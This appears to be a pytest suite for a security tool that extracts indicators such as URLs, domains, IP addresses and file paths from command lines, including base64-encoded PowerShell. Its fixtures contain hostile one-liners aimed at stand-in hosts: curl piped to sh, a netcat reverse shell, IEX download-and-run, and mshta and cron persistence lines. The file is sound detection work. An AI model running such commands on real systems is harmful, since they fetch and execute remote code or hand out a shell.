"""Values inside a text: what is taken out, and what is nearly a value and is not."""

import base64

import pytest
from hypothesis import given
from hypothesis import strategies as st

from controller.indicators.text import MOST_VALUES, values_in
from controller.model.indicator import Kind


def of(kind: Kind, text: str) -> set[str]:
    return {value for each, value in values_in(text) if each is kind}


def encoded(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode()


@pytest.mark.parametrize(
    ("kind", "text", "value"),
    [
        (Kind.URL, 'explorer.exe "http://c2.bad.example/a.hta"', "http://c2.bad.example/a.hta"),
        (Kind.URL, "curl -s http://c2.bad.example/x.sh | sh", "http://c2.bad.example/x.sh"),
        (Kind.URL, "mshta.exe HTTPS://C2.bad.example:8443/a?b=c&d", "HTTPS://C2.bad.example:8443/a?b=c&d"),
        (Kind.URL, "(New-Object Net.WebClient).DownloadString('http://bad.example/a')", "http://bad.example/a"),
        (Kind.URL, "see http://bad.example/a.", "http://bad.example/a"),
        (Kind.DOMAIN, "nslookup c2.bad.example", "c2.bad.example"),
        (Kind.DOMAIN, "--pool c2.bad.example:4444 -u x", "c2.bad.example"),
        (Kind.DOMAIN, "ping bad.example.", "bad.example."),
        (Kind.DOMAIN, "203.0.113.66 portal.bank.example", "portal.bank.example"),
        (Kind.DOMAIN, "x=bad.example;y=1", "bad.example"),
        (Kind.DOMAIN, "nc -e /bin/sh xn--bcher-kva.example 443", "xn--bcher-kva.example"),
        (Kind.ADDRESS, "203.0.113.66 portal.bank.example", "203.0.113.66"),
        (Kind.ADDRESS, "net use \\\\203.0.113.66\\c$", "203.0.113.66"),
        (Kind.ADDRESS, "ssh root@203.0.113.66", "203.0.113.66"),
        (Kind.ADDRESS, "nc 203.0.113.66 4444", "203.0.113.66"),
        (Kind.ADDRESS, "nc [2001:db8::7]:443", "2001:db8::7"),
        (Kind.ENDPOINT, "--connect=203.0.113.66:8443", "203.0.113.66:8443"),
        (Kind.ENDPOINT, "nc [2001:db8::7]:443", "[2001:db8::7]:443"),
        (Kind.PATH, 'cmd.exe /c start "" "%APPDATA%\\KT\\nhac.exe"', "%APPDATA%\\KT\\nhac.exe"),
        (Kind.PATH, "%APPDATA%\\KT\\nhac.exe -d", "%APPDATA%\\KT\\nhac.exe"),
        (Kind.PATH, "C:\\Program Files\\KT\\nhac.exe -d", "C:\\Program Files\\KT\\nhac.exe"),
        (Kind.PATH, 'rundll32 "C:\\Users\\Kế toán\\a b.dll",Run', "C:\\Users\\Kế toán\\a b.dll"),
        (Kind.PATH, "rundll32.exe C:\\ProgramData\\x.dll,Run", "C:\\ProgramData\\x.dll"),
        (Kind.PATH, "\\\\fs01\\share$\\evil.exe /q", "\\\\fs01\\share$\\evil.exe"),
        (Kind.PATH, "sh -c '/opt/kt/evil-run -d'", "/opt/kt/evil-run"),
        (Kind.PATH, "17 3 * * * root /var/tmp/.cap-nhat/kworkerd", "/var/tmp/.cap-nhat/kworkerd"),
        (Kind.NAME, "evil.exe -x", "evil.exe"),
        (Kind.NAME, "cd /opt/kt && ./evil.sh", "evil.sh"),
        (Kind.NAME, 'start "nhạc chuông.exe"', "chuông.exe"),
        (Kind.DOMAIN, "c^md /c pi^ng ba^d.exam^ple", "bad.example"),
    ],
)
def test_a_value_is_taken_out_of_a_text(kind: Kind, text: str, value: str) -> None:
    assert value in of(kind, text)


@pytest.mark.parametrize(
    ("kind", "text", "value"),
    [
        (Kind.DOMAIN, "sendmail an@bad.example", "bad.example"),
        (Kind.DOMAIN, "ping notbad.example", "bad.example"),
        (Kind.DOMAIN, "ping bad.example.corp.example", "bad.example"),
        (Kind.DOMAIN, "ping my-bad.example", "bad.example"),
        (Kind.DOMAIN, "svchost.exe -k netsvcs", "svchost.exe"),
        (Kind.DOMAIN, "C:\\x\\update.dll", "update.dll"),
        (Kind.DOMAIN, "systemd-journald.service", "systemd-journald.service"),
        (Kind.DOMAIN, "System.Net.WebClient", "Net.WebClient"),
        (Kind.DOMAIN, "/opt/bad.example/x", "bad.example"),
        (Kind.ADDRESS, "Chrome/203.0.113.66 Safari", "203.0.113.66"),
        (Kind.ADDRESS, "setup --version 203.0.113.66", "203.0.113.66"),
        (Kind.ADDRESS, "agent v203.0.113.66", "203.0.113.66"),
        (Kind.ADDRESS, "203.0.113.66.1", "203.0.113.66"),
        (Kind.ADDRESS, "1.203.0.113.66", "203.0.113.66"),
        (Kind.ADDRESS, "lib-203.0.113.66.so", "203.0.113.66"),
        (Kind.ADDRESS, "10.0.19041.1", "10.0.19041.1"),
        (Kind.ENDPOINT, "203.0.113.66:8443x", "203.0.113.66:8443"),
        (Kind.PATH, "a/b/c", "/b/c"),
        (Kind.NAME, "http://bad.example/evil.exe", "evil.exe"),
        (Kind.NAME, "readme.txt", "readme.txt"),
        (Kind.URL, "javahttp://bad.example/a", "http://bad.example/a"),
    ],
)
def test_what_is_nearly_a_value_is_not_taken(kind: Kind, text: str, value: str) -> None:
    assert value not in of(kind, text)


def test_what_powershell_is_given_in_base64_is_read_too() -> None:
    script = encoded("IEX (iwr http://bad.example/a)")

    for option in ("-EncodedCommand", "-enc", "-e", "/EC"):
        assert of(Kind.URL, f"powershell.exe -nop {option} {script}") == {"http://bad.example/a"}


@pytest.mark.parametrize("text", ["powershell -enc AAAA", "powershell -enc " + "A" * 17, "-e " + "!" * 40])
def test_what_only_looks_encoded_does_no_harm(text: str) -> None:
    assert of(Kind.URL, text) == set()


def test_a_text_gives_a_bounded_number_of_values() -> None:
    assert len(values_in(" ".join(f"a{number}.example" for number in range(2_000)))) == MOST_VALUES


@given(st.text(max_size=300))
def test_no_text_is_too_odd(text: str) -> None:
    assert all(value and value in text.replace("^", "") + text for _, value in values_in(text) if "-e" not in text)
